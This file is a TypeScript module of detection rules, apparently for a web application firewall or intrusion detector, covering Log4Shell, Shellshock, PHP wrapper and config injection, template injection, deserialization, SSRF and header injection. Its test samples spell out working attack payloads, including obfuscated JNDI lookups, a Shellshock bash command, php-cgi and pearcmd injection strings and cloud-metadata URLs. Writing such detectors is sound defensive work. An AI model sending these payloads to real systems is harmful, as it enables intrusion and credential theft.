/** Injections into interpreters other than SQL, shells and browsers. */
import { definePayload } from './define-payload.ts'
import { hasPrototypeKey, namesPrototype, PROTOTYPE_FIRES, PROTOTYPE_QUIET } from './prototype.ts'

/** Folds `${lower:j}`, `${::-n}`, `${env:X:-d}` to what Log4j makes of them; a bounded number of rounds. */
function foldLookups(lower: string): string {
  let text = lower
  for (let round = 0; round < 12; round++) {
    const next = text.replace(
      /\$\{(?:[^${}]{0,60}:-([^${}]{0,60})|(?:lower|upper):([^${}]{0,60})|(?:base64|date|web|sys):['"]?([^${}:]{0,8})['"]?)\}/g,
      (_all, fallback: string | undefined, cased: string | undefined, other: string | undefined) =>
        fallback ?? cased ?? other ?? '',
    )
    if (next === text) return text
    text = next
  }
  return text
}

export const jndiInjection = definePayload({
  id: 'java_jndi_injection',
  title: 'Log4Shell (JNDI lookup)',
  severity: 'critical',
  exploit: true,
  technique: 'T1190',
  value: ({ lower }) => {
    if (!lower.includes('${') && !lower.includes('jndi')) return false
    const text = lower.length > 4096 ? lower.slice(0, 4096) : lower
    return /\$\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?):\/\//.test(foldLookups(text))
  },
  fires: [
    'GET /?x=${jndi:ldap://203.0.113.9/a}',
    'GET /?x=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D',
    'GET /?x=${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}',
    'GET /?x=${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}',
    { agent: '${${env:NONE:-j}ndi:ldap://203.0.113.9/a}' },
  ],
  quiet: ['GET /docs/jndi', 'GET /?q=what+is+jndi', 'GET /?t=${name}', { agent: 'jndi-client/1.0' }],
})

export const shellshock = definePayload({
  id: 'shellshock',
  title: 'Shellshock',
  severity: 'critical',
  exploit: true,
  technique: 'T1190',
  value: ({ lower }) => /^\s*\(\s*\)\s*\{|\(\s*\)\s*\{\s*(?::|_|[\w ]{0,12});?\s*\}\s*(?:>_\[|;)/.test(lower),
  fires: [
    { agent: '() { :;}; /bin/bash -c "id"' },
    { agent: '() { _; } >_[$($())] { id; }' },
    'GET /cgi-bin/x?a=()+{+:;};+echo',
  ],
  quiet: [{ agent: 'Mozilla/5.0 (X11; Linux) { x }' }, 'GET /a?f=function()+{return+1}', 'GET /a?f=()'],
})

export const phpStreamWrapper = definePayload({
  id: 'php_stream_wrapper',
  title: 'PHP stream wrapper',
  severity: 'high',
  exploit: true,
  technique: 'T1190',
  value: ({ lower, place }) =>
    place !== 'header' &&
    /(?:^|[=/\s"'(])(?:php:\/\/(?:filter|input|fd|memory|temp|stdin)|expect:\/\/|phar:\/\/|zip:\/\/|glob:\/\/|ogg:\/\/|ssh2\.exec|compress\.\w+:\/\/|data:\/\/|data:text\/plain[;,])/.test(
      lower,
    ),
  fires: [
    'GET /?page=php://filter/convert.base64-encode/resource=index',
    'GET /?page=data://text/plain;base64,PD8=',
    'GET /?p=expect://id',
    'GET /?p=phar:///tmp/x.phar',
  ],
  quiet: [
    'GET /?u=https://www.example/php',
    'GET /docs/php/filter',
    'GET /?q=php+input',
    'GET /?img=data:image/png;base64,AAAA',
  ],
})

export const phpConfigInjection = definePayload({
  id: 'php_config_injection',
  title: 'PHP configuration by request',
  severity: 'critical',
  exploit: true,
  technique: 'T1190',
  target: ({ path, query }) => {
    const text = `${path}?${query}`
    return (
      /pearcmd.{0,200}config-create|config-create.{0,200}pearcmd|(?:^|[?&\s+-]|\xad)d[\s+]+(?:allow_url_include|auto_prepend_file|auto_append_file|safe_mode|disable_functions|suhosin|open_basedir|cgi\.)/.test(
        text,
      ) ||
      (text.includes('../') && text.includes('/tmp/') && text.includes('<?'))
    )
  },
  fires: [
    'GET /index.php?lang=../../../usr/local/lib/php/pearcmd&+config-create+/<?=phpinfo()?>+/tmp/a.php',
    'POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    'POST /?-d+allow_url_include%3d1',
  ],
  quiet: ['GET /docs/pearcmd', 'GET /?q=allow_url_include', 'GET /tmp/a.php'],
})

export const templateInjection = definePayload({
  id: 'template_injection',
  title: 'Template or expression injection',
  severity: 'high',
  exploit: true,
  technique: 'T1190',
  value: ({ lower }) =>
    /(?:\{\{|[$#*@%]\{|<%=|\{%)[^}]{0,40}?\d+\s*[*+-]\s*['"]?\d+/.test(lower) ||
    /\{\{[^}]{0,80}(?:\bconfig\b|self\.|request\.|__class__|__mro__|__globals__|cycler|joiner|lipsum|constructor|\[\]\.|system\()/.test(
      lower,
    ) ||
    /__class__\s*\.\s*__|__subclasses__\s*\(|\{%\s*(?:import|include|for\s+\w+\s+in\s+\(\))|\$\{\s*t\s*\(|\$\{\s*(?:class|runtime)\b|<#assign/.test(
      lower,
    ),
  fires: [
    'GET /?name={{7*7}}',
    'GET /?name=${7*7}',
    'GET /?name=%7B%7Bconfig.items()%7D%7D',
    "GET /?n={{''.__class__.__mro__}}",
    'GET /?n=<%25=+7*7+%25>',
  ],
  quiet: ['GET /?q={{name}}', 'GET /?q=2*3', 'GET /?tpl=${user.name}', 'GET /?q={a:1-2}', 'GET /docs/__class__'],
})

export const deserialization = definePayload({
  id: 'deserialization_probe',
  title: 'Serialised object or prototype where text should be',
  severity: 'high',
  exploit: true,
  technique: 'T1190',
  // Objects that a client brings along: the bits for families are all in use.
  target: namesPrototype,
  value: value =>
    hasPrototypeKey(value) ||
    /^rO0AB[XQ]|^aced0005/.test(value.text) ||
    /ysoserial|commonscollections\d|org\.apache\.commons\.collections|!!python\/object|!!javax\.script/.test(
      value.lower,
    ) ||
    /(?:^|[;{])o:\d{1,3}:"[a-z_\\]{1,80}":\d{1,3}:\{/.test(value.lower) ||
    /"\$type"\s*:\s*"system\./.test(value.lower),
  fires: [
    ...PROTOTYPE_FIRES,
    'GET /?d=rO0ABXNyABFqYXZh',
    'GET /?d=aced0005737200',
    'GET /?d=O:8:"Evil_Cls":1:{s:1:"a";}',
    'GET /ysoserial/CommonsCollections5',
  ],
  quiet: [
    ...PROTOTYPE_QUIET,
    'GET /?id=xrO0ABcd',
    'GET /?token=eyJhbGciOiJIUzI1NiJ9',
    'GET /?q=priorityqueue',
    'GET /?o=O:8',
  ],
})

export const ssrfMetadata = definePayload({
  id: 'ssrf_metadata',
  title: "Reading the cloud's instance metadata",
  severity: 'critical',
  exploit: true,
  technique: 'T1552.005',
  value: ({ lower }) =>
    /(?:169\.254\.169\.254|\[::ffff:(?:169\.254\.169\.254|a9fe:a9fe)|0251\.0376\.0251\.0376|169\.254\.43518|100\.100\.100\.200|\[fd00:ec2::254\]|0xa9fea9fe|2852039166)(?:[\]:/]|$)|metadata\.google\.internal|computemetadata\/v1|metadata\.azure\.(?:com|internal)/.test(
      lower,
    ),
  fires: [
    'GET /?url=http://169.254.169.254/latest/meta-data/',
    'GET /proxy/http://metadata.google.internal/computeMetadata/v1/',
    'GET /?u=http%3A%2F%2F100.100.100.200%2Flatest',
    'GET /?u=http://[::ffff:169.254.169.254]/latest/',
  ],
  quiet: ['GET /docs/metadata/latest', 'GET /?ip=169.254.1.1', 'GET /?q=google+metadata'],
})

/** Parameters in which a loopback address is usual: native apps are called back on it (RFC 8252). */
const CALLBACK = /redirect|return|callback|next|continue|referr?er|origin|success|cancel|goto|dest/

export const ssrf = definePayload({
  id: 'ssrf',
  title: 'Requests forged to inner hosts',
  severity: 'medium',
  exploit: true,
  technique: 'T1090',
  value: ({ place, name, lower }) =>
    (place === 'parameter' || place === 'text') &&
    (/^\s*(?:gopher|dict|file|ldap|tftp|sftp|netdoc|jar):\/{0,2}\/\S/.test(lower) ||
      (!CALLBACK.test(name) &&
        /^\s*(?:https?|ftp):\/\/(?:[^/@\s]{1,80}@)?(?:localhost|127\.\d|0\.0\.0\.0|0x7f|0177\.|2130706433|\[::1?\]|\[::ffff:127|10\.\d{1,3}\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(
          lower,
        ))),
  fires: [
    'GET /?url=http://127.0.0.1:6379/',
    'GET /fetch?u=gopher://203.0.113.9:70/_x',
    'GET /?img=file:///etc/hosts',
    'GET /?u=http://[::1]:80/',
    'GET /?u=http://2130706433/',
  ],
  quiet: [
    'GET /oauth?redirect_uri=http://127.0.0.1:5000/cb',
    'GET /?url=https://www.example/',
    'GET /?q=localhost',
    'GET /?next=http://localhost:3000/',
  ],
})

export const headerInjection = definePayload({
  id: 'header_injection',
  title: 'Line breaks that forge headers',
  severity: 'medium',
  exploit: true,
  technique: 'T1190',
  value: ({ lower, place }) =>
    place !== 'text' &&
    /[\r\n]\s{0,4}(?:set-cookie|location|content-(?:type|length)|x-[a-z-]{2,40}|refresh|host|transfer-encoding|http\/1\.)\s*[:\d ]/.test(
      lower,
    ),
  fires: [
    'GET /%0d%0aSet-Cookie:%20a=b',
    'GET /?u=x%0d%0aLocation:%20https://203.0.113.9/',
    'GET /?u=x%250d%250aX-Injected:%201',
  ],
  quiet: ['GET /?text=line%0d%0aline+two', 'GET /?note=a%0ahostess:+b', 'GET /?q=set-cookie:'],
})
